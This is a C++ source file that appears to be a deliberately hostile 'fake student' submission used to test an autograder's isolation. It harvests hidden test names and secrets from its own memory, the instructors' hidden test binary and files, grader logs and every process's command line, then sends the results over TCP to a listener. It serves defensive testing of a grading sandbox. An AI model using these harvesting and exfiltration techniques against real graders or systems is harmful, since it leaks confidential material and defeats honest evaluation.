// Hostile submission: looks for hidden test names everywhere a test run can read: its own
// binary and memory, the hidden binary (read, or run with --list-test-names-only), the
// instructors' files, and every process's command line. It prints what it found, sends it
// over TCP to a listener outside (the test's, on this machine), and gives a wrong answer, so
// that its output is shown with the failure. See README.md.
#include <dirent.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <iterator>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include <arpa/inet.h>
#include <netinet/in.h>

#include "grading/tests/fake_student/answer.h"

#define AUTOGRADER_ROOT "@AUTOGRADER_ROOT@"
#define EXFILTRATION_PORT "@EXFILTRATION_PORT@"

namespace fake_student {
namespace {

// Collects the NUL- or space-separated words of data that look like secrets: test names
// (Test + a capital letter) and anything that says Probe or Secret.
void Collect(const std::string& data, std::set<std::string>& found) {
  std::string word;
  for (const char c : data + '\0') {
    if (c > ' ' && c < 127) {
      word += c;
      continue;
    }
    const bool test_name =
        word.size() > 5 && word.compare(0, 4, "Test") == 0 && word[4] >= 'A' && word[4] <= 'Z';
    const bool secret =
        word.find("Probe") != std::string::npos || word.find("Secret") != std::string::npos;
    if ((test_name || secret) && word.size() < 80) found.insert(word);
    word.clear();
  }
}

std::string ReadFile(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  return {std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>()};
}

// Every readable mapping of this process, through /proc/self/mem, one at a time.
void CollectOwnMemory(std::set<std::string>& found) {
  std::istringstream maps(ReadFile("/proc/self/maps"));
  std::ifstream mem("/proc/self/mem", std::ios::binary);
  std::string line;
  while (std::getline(maps, line)) {
    unsigned long begin = 0, end = 0;
    char perms[5] = {};
    if (std::sscanf(line.c_str(), "%lx-%lx %4s", &begin, &end, perms) != 3) continue;
    if (perms[0] != 'r' || end - begin > (16ul << 20) || line.find("[vvar]") != line.npos) {
      continue;
    }
    std::string chunk(end - begin, '\0');
    mem.clear();
    mem.seekg(static_cast<std::streamoff>(begin));
    if (mem.read(chunk.data(), static_cast<std::streamsize>(chunk.size()))) {
      Collect(chunk, found);
    }
  }
}

std::string RunAndRead(const std::string& command) {
  std::string out;
  if (FILE* p = popen(command.c_str(), "r")) {
    char buffer[4096];
    size_t n = 0;
    while ((n = fread(buffer, 1, sizeof buffer, p)) > 0) out.append(buffer, n);
    pclose(p);
  }
  return out;
}

void SendOut(const std::string& text) {
  const int fd = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_port = htons(static_cast<uint16_t>(std::atoi(EXFILTRATION_PORT)));
  to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (connect(fd, reinterpret_cast<const sockaddr*>(&to), sizeof to) == 0) {
    const ssize_t sent = write(fd, text.data(), text.size());
    std::printf("ATTACK sent %zd bytes out\n", sent);
  } else {
    std::printf("ATTACK could not connect out\n");
  }
  close(fd);
}

}  // namespace

int Answer() {
  const std::string root = AUTOGRADER_ROOT;
  std::set<std::string> found;
  Collect(ReadFile("/proc/self/exe"), found);
  CollectOwnMemory(found);
  const std::vector<std::string> secrets = {
      root + "/source/build/debug/bin/grader_fake_hidden_tests",
      root + "/source/grading/hidden/grader_fake/hidden_sample_test.cpp",
      root + "/source/grading/tests/grader_fake.json",
      root + "/source/grading/gradescope/assignment.json",
      root + "/results/logs/grader.log",
  };
  for (const std::string& path : secrets) Collect(ReadFile(path), found);
  Collect(RunAndRead(secrets[0] + " --list-test-names-only 2>&1"), found);
  if (DIR* proc = opendir("/proc")) {
    while (const dirent* entry = readdir(proc)) {
      Collect(ReadFile(std::string("/proc/") + entry->d_name + "/cmdline"), found);
    }
    closedir(proc);
  }
  std::string line = "ATTACK-FOUND:";
  for (const std::string& word : found) line += " " + word;
  std::printf("%s\n", line.substr(0, 6000).c_str());
  SendOut(line + "\n");
  std::fflush(stdout);
  return 41;
}

}  // namespace fake_student
